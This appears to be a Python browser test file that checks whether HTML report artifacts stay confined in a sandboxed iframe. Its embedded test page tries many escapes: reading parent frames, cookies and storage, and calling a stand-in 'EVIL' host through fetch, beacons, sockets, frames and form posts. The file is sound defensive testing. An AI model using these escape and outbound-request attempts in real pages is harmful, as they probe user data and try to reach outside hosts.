"""HTML artifacts in their sandbox: scripts run, and reach nothing but their own page."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from reportgen.render.viewers import frame_page, sandbox_page
from tests.browser.visits import until_noted, visit_afresh
from tests.hosts import serving
from tests.patience import until_true

pytestmark = pytest.mark.browser

# Draws, as charts of Plotly do, then tries each way out and notes how it went.
ARTIFACT = """<!doctype html><html><head><meta charset="utf-8"><title>a</title></head><body>
<div id="plot"></div><p id="end"><a id="here" href="#end">to the end</a></p>
<script>
const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
svg.append(document.createElementNS('http://www.w3.org/2000/svg', 'path'));
document.getElementById('plot').append(svg);
const seen = {sum: new Function('return 1 + 1')()};
function attempt(name, way) {
  try { seen[name] = String(way()) } catch (error) { seen[name] = error.name }
}
attempt('parent', () => parent.document.title);
attempt('top', () => top.location.href);
attempt('local', () => localStorage.length);
attempt('session', () => sessionStorage.length);
attempt('cookie', () => document.cookie);
attempt('database', () => indexedDB.open('x'));
attempt('popup', () => open('EVIL/popup'));
attempt('navigate', () => { top.location = 'EVIL/top' });
attempt('dialog', () => prompt('x'));
seen.fetch = 'waits';
fetch('EVIL/fetch').then(() => { seen.fetch = 'reached' }, () => { seen.fetch = 'refused' });
const request = new XMLHttpRequest();
request.open('GET', 'EVIL/xhr'); request.onerror = () => { seen.xhr = 'refused' }; request.send();
navigator.sendBeacon('EVIL/beacon', 'x');
new WebSocket('EVIL/socket'.replace('http', 'ws'));
new EventSource('EVIL/events');
new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"])));
import('EVIL/module.js').catch(() => 0);
new FontFace('x', 'url(EVIL/font)').load().catch(() => 0);
function add(tag, more) { document.body.append(Object.assign(document.createElement(tag), more)) }
add('img', {src: 'EVIL/image'});
add('script', {src: 'EVIL/script.js'});
add('iframe', {src: 'EVIL/frame'});
add('iframe', {srcdoc: "<script>fetch('EVIL/nested')</" + "script>"});
add('object', {data: 'EVIL/object'});
add('embed', {src: 'EVIL/embed'});
add('video', {src: 'EVIL/video'});
add('style', {textContent: '@import "EVIL/sheet"; body { background: url(EVIL/background) }'});
for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
  add('link', {rel, href: 'EVIL/' + rel, as: 'script'});
add('form', {id: 'form', action: 'EVIL/form', method: 'post'});
document.getElementById('form').submit();
for (const target of ['_blank', '_top', '_parent']) {
  add('a', {id: target, target, href: 'EVIL/' + target});
  document.getElementById(target).click();
}
add('a', {id: 'save', href: 'data:text/plain,x', download: 'x.txt'});
document.getElementById('save').click();
addEventListener('message', () => setTimeout(() => { location = 'EVIL/self' }, 0));
</script></body></html>"""


@pytest.fixture(scope="module")
def evil() -> Iterator[tuple[str, list[str]]]:
    """A host that nothing should ask, and what it was asked; a bare connection asks nothing."""
    asked: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            asked.extend(filter(None, [self.rfile.readline().decode("latin-1")]))
            self.close_connection = True

    with serving(Ear) as address:
        yield address, asked


@pytest.fixture(params=["file", "http"])
def base(
    request: pytest.FixtureRequest, served_root: Path, server: str, evil: tuple[str, list[str]]
) -> str:
    """Where a sandbox, and a run's page that frames it, stand: on disk, then on the server."""
    folder = served_root / "sandbox"
    folder.mkdir(exist_ok=True)
    body = ARTIFACT.replace("EVIL", evil[0]).encode()
    (folder / "live.html").write_bytes(sandbox_page("a & b.html", body))
    still = b"<h1 style='color: #123'>still</h1><img src='data:image/svg+xml,%3Csvg/%3E'>"
    (folder / "still.html").write_bytes(sandbox_page("still.html", still))
    drawing = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>x</script></svg>'
    )
    (folder / "drawing.html").write_bytes(frame_page("drawing.svg", drawing))
    policy = "default-src 'none'; frame-src 'self'"
    (folder / "run.html").write_text(
        f'<!doctype html><meta http-equiv="Content-Security-Policy" content="{policy}">'
        '<iframe sandbox src="still.html"></iframe><iframe sandbox src="drawing.html"></iframe>'
    )
    return folder.as_uri() if request.param == "file" else f"{server}/sandbox"


def test_scripts_of_an_artifact_run_and_reach_nothing(
    browser: Browser, base: str, evil: tuple[str, list[str]]
) -> None:
    host, asked = evil
    with visit_afresh(browser) as (page, events):
        downloads: list[str] = []
        page.on("download", lambda download: downloads.append(download.url))
        page.goto(f"{base}/live.html")
        frame = page.frames[1]
        frame.locator("#plot svg path").wait_for(state="attached")
        until_true(lambda: frame.evaluate("seen.fetch !== 'waits' && seen.xhr"), "no answers")
        page.wait_for_timeout(400)
        seen = json.loads(str(frame.evaluate("JSON.stringify(seen)")))
        frame.locator("#here").click()
        assert frame.evaluate("location.href") == "about:srcdoc#end"
        page.evaluate("frames[0].postMessage('go', '*')")
        page.wait_for_timeout(400)
        assert page.title() == "a & b.html"
        assert page.url == f"{base}/live.html"
        assert len(page.context.pages) == 1
        assert not [one.url for one in page.frames if one.url.startswith(host)]
    assert seen.pop("sum") == 2
    assert {seen.pop("fetch"), seen.pop("xhr")} == {"refused"}
    assert seen.pop("popup") == seen.pop("dialog") == "null"
    assert seen == dict.fromkeys(
        ("parent", "top", "local", "session", "cookie", "database", "navigate"), "SecurityError"
    )
    assert events.dialogs == []
    assert downloads == []
    assert asked == []


def test_the_artifact_does_reach_that_host_without_a_sandbox(
    browser: Browser, tmp_path: Path, evil: tuple[str, list[str]]
) -> None:
    (tmp_path / "bare.html").write_text(ARTIFACT.replace("EVIL", evil[0]), "utf-8")
    with visit_afresh(browser) as (page, _):
        page.goto((tmp_path / "bare.html").as_uri(), wait_until="commit")
        until_noted(page, lambda: evil[1], "nobody was asked")
    evil[1].clear()


def test_a_run_page_frames_pages_without_an_error(browser: Browser, base: str) -> None:
    with visit_afresh(browser) as (page, events):
        page.goto(f"{base}/run.html")
        headings = page.frame_locator("iframe").first.frame_locator("iframe").locator("h1")
        assert headings.inner_text() == "still"
        wanted = ["about:srcdoc", "drawing.html", "run.html", "still.html"]
        until_noted(
            page,
            lambda: sorted(frame.url.rpartition("/")[2] for frame in page.frames) == wanted,
            "the frames never came",
        )
    assert events.errors == []
